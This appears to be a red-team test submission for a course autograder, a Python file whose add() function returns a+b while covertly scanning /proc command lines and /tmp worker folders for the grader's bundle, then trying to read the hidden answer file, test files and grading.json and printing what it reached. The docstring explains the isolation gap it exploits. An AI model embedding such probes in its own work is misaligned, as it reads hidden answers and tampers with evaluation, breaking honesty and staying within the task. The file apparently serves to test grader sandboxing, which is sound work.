"""Attack p01: where bubblewrap cannot run (an unprivileged container such as Gradescope's, or
COURSE_SANDBOX_BWRAP=0), the runner sees the grader's whole filesystem as its own unprivileged
user. The bundle holds every case, hidden ones too (duo's hidden/secret_golden.json is the hidden
case's input and answer), and the oracle results. Gradescope unpacks the autograder zip
world-readable, and the judge's command line, which any user may read in /proc, names the bundle
(`--bundle /autograder/source/bundle`); a batch worker unpacks it under /tmp/course-worker-*.

The public add looks for bundles both ways, tries to read the hidden golden file and a test file
of each, and prints what it found and what it could read. Honest otherwise: 4/4."""

import glob
import os

import numpy as np


def _bundles():
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        if b"--bundle" in args[:-1]:
            found.add(os.fsdecode(args[args.index(b"--bundle") + 1]))
    found.update(glob.glob("/tmp/course-worker-*/bundle"))  # refused if the folder is closed
    for name in os.listdir("/tmp"):
        if name.startswith("course-worker-"):
            found.add(os.path.join("/tmp", name, "bundle"))
    return sorted(found)


def _probe():
    read, refused = [], []
    bundles = _bundles()
    for bundle in bundles:
        for part in ("hidden/secret_golden.json", "tests/q1_duo.py", "grading.json"):
            try:
                with open(os.path.join(bundle, part), "rb") as f:
                    read.append(f"{part}:{len(f.read())}")
            except OSError as e:
                refused.append(f"{part}:{type(e).__name__}")
    return bundles, read, refused


def add(a, b):
    bundles, read, refused = _probe()
    print(f"BUNDLE-PROBE found {len(bundles)} read [{' '.join(read)}] refused [{' '.join(refused)}]")
    return a + b


def scale(x, k):
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    return tuple(shape)
